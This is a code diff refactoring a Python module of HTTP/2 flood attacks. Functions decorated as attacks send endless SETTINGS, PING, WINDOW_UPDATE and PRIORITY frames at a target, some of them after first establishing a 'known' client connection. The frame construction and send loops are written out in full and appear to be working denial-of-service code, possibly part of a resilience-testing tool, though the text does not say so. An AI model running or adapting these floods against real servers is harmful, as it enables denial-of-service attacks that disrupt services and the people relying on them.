@@ -48,8 +48,13 @@ class Http2:
     def send(self, data):
         self.socket.sendall(data)
         while self.reads and self.readable.poll(0):
-            if not self.socket.recv(1 << 16):
-                raise ConnectionResetError("ended")
+            self.receive()
+
+    def receive(self):
+        data = self.socket.recv(1 << 16)
+        if not data:
+            raise ConnectionResetError("ended")
+        return data
 
     def headers(self, path=INFO, flags=END_HEADERS):
         """Those of a new call."""
@@ -67,8 +72,8 @@ class Http2:
         self.close()
 
 
-def flood(target, told, over, name, data, times, reads=True):
-    with Http2(target, reads=reads) as peer:
+def flood(peer, told, over, name, data, times=200):
+    with peer:
         while not over.is_set():
             peer.send(data * times)
             told[name] += times
@@ -77,28 +82,32 @@ def flood(target, told, over, name, data, times, reads=True):
 @attack("http2")
 def settings_flood(target, told, over):
     """SETTINGS without end, each of which asks for an acknowledgement."""
-    flood(target, told, over, "settings", frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)), 200)
+    flood(Http2(target), told, over, "settings", frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)))
 
 
 @attack("http2")
 def ping_flood(target, told, over):
     """PINGs without end, whose answers nobody reads."""
-    flood(target, told, over, "pings", frame(PING, 0, 0, bytes(8)), 200, reads=False)
+    flood(Http2(target, reads=False), told, over, "pings", frame(PING, 0, 0, bytes(8)))
 
 
 @attack("http2")
 def window_flood(target, told, over):
     """WINDOW_UPDATEs and PRIORITYs of streams that do not exist."""
     data = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) + frame(PRIORITY, 0, 9, struct.pack(">IB", 0, 1))
-    flood(target, told, over, "updates", data, 200)
+    flood(Http2(target), told, over, "updates", data)
 
 
 def known(target):
     """A connection whose client is known: it has made a call, which was answered."""
     peer = Http2(target, reads=False)
-    peer.send(peer.headers() + frame(DATA, END_STREAM, 1, bytes(5)))
-    while bytes([HEADERS, END_HEADERS | END_STREAM]) not in peer.socket.recv(1 << 16):  # its trailers
-        continue
+    try:
+        peer.send(peer.headers() + frame(DATA, END_STREAM, peer.next - 2, bytes(5)))
+        while bytes([HEADERS, END_HEADERS | END_STREAM]) not in peer.receive():  # its trailers
+            continue
+    except OSError:
+        peer.close()
+        raise
     peer.reads = True
     return peer
 
@@ -106,19 +115,13 @@ def known(target):
 @attack(APART)
 def settings_of_a_client(target, told, over):
     """SETTINGS without end by a client that has made a call."""
-    with known(target) as peer:
-        while not over.is_set():
-            peer.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 200)
-            told["settings"] += 200
+    flood(known(target), told, over, "settings", frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)))
 
 
 @attack(APART)
 def priorities_of_a_client(target, told, over):
     """PRIORITYs, which nobody answers, without end by a client that has made a call."""
-    with known(target) as peer:
-        while not over.is_set():
-            peer.send(frame(PRIORITY, 0, 9, struct.pack(">IB", 0, 1)) * 200)
-            told["priorities"] += 200
+    flood(known(target), told, over, "priorities", frame(PRIORITY, 0, 9, struct.pack(">IB", 0, 1)))
 
 
 @attack(APART)
